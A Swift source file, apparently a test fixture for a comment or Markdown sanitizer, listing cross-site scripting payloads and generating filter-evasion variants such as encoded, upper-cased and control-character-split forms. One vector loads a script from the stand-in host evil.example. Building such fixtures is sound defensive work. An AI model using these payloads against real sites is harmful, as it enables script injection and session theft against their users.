/// Hostile inputs for the discussion: classic vectors, then each in the forms attackers use to
/// slip past filters (inside Markdown links, entity- and percent-encoded, nested, upper-case,
/// split by control characters).
enum XSSPayloads {
    static let vectors = [
        "<script>alert(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<body onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<style>@import 'javascript:alert(1)';</style>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<base href=javascript:alert(1)//>",
        "\"><script>alert(1)</script>",
        "\"\u{301} autofocus onfocus=alert(1) x=\"",
        "'\u{301}><img src=x onerror=alert(1)>",
        "'><img src=x onerror=alert(1)>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<img src=`x` onerror=alert(1)>",
        "<IMG SRC=JaVaScRiPt:alert(1)>",
        "<marquee onstart=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<x onclick=alert(1)>click",
        "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
    ]

    static let linkTargets = [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
        "https://ok.example/\" onmouseover=\"alert(1)", "https://ok.example/'><script>alert(1)</script>",
        "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
    ]

    static var all: [String] {
        var payloads: [String] = []
        for vector in vectors {
            payloads.append(vector)
            payloads.append(vector.uppercased())
            payloads.append("text before " + vector + " text after")
            payloads.append(vector.replacingOccurrences(of: "<", with: "&lt;").replacingOccurrences(of: ">", with: "&gt;"))
            payloads.append(vector.replacingOccurrences(of: "<", with: "%3C").replacingOccurrences(of: ">", with: "%3E"))
            payloads.append("*" + vector + "*")
        }
        for target in linkTargets {
            payloads.append("[click](\(target))")
            payloads.append("![image](\(target))")
            payloads.append("<a href=\"\(target)\">click</a>")
        }
        payloads += [
            "`<script>alert(1)</script>`", "> <script>alert(1)</script>", "**<img src=x onerror=alert(1)>**",
            "https://ok.example/<script>alert(1)</script>", "https://ok.example/\"onmouseover=alert(1)",
            "[<img src=x onerror=alert(1)>](https://ok.example)", "\u{0}<script>alert(1)</script>",
            "<scr\u{0}ipt>alert(1)</script>", "<\u{202E}script>alert(1)</script>", "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
        ]
        return payloads
    }
}
